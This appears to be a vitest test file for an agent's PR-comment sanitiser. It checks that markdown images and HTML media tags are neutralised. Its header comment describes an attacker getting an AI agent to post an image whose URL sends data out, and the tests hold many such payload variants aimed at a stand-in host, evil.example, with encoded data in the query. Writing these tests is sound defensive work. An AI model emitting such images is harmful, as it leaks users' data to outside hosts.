// The attacker has an agent write a picture into a comment: nobody has to follow a link, for the server that the picture lies on is asked for it as
// soon as the comment is looked at, with whatever was written into its address.

import { expect, it } from "vitest";
import { attributed, quiet } from "../../src/doer/io/tools/pr-comment.ts";

const AT = "https://evil.example/p.png?d=aGVsbG8";

it.each([
  `![x](${AT})`, `look: ![x](<${AT}> "t")`, `![a [b] c](${AT})`, `[![x](${AT})](https://example.com)`, `\\\\![x](${AT})`, `![x][p]\n\n[p]: ${AT}`,
  `[p]: ${AT}\n\n![p]`, `![p][]\n\n[p]: ${AT}`, `!\\![x](${AT})`, `![x\n](${AT})`, `\`\`\n![x](${AT})`,
])("%j shows no picture", (body) => {
  expect(quiet(body)).not.toMatch(/!\[/);
}); // prettier-ignore

it.each(["img", "IMG", "picture", "source", "video", "audio", "svg", "iframe", "object", "embed", "image"])(
  "<%s> is text",
  (tag) => {
    for (const body of [`<${tag} src="${AT}">`, `<${tag}/src="${AT}">`, `<${tag}\nsrcset="${AT}">`])
      expect(attributed("by", body)).not.toMatch(new RegExp(`<${tag}`, "i"));
  },
);

it("code without a picture in it stays what it is", () => {
  for (const body of ["if (![1, 2].includes(x)) return;", "a < b && c > d", "<imports>", "wow![^1]"])
    expect(quiet(body)).toBe(body);
});
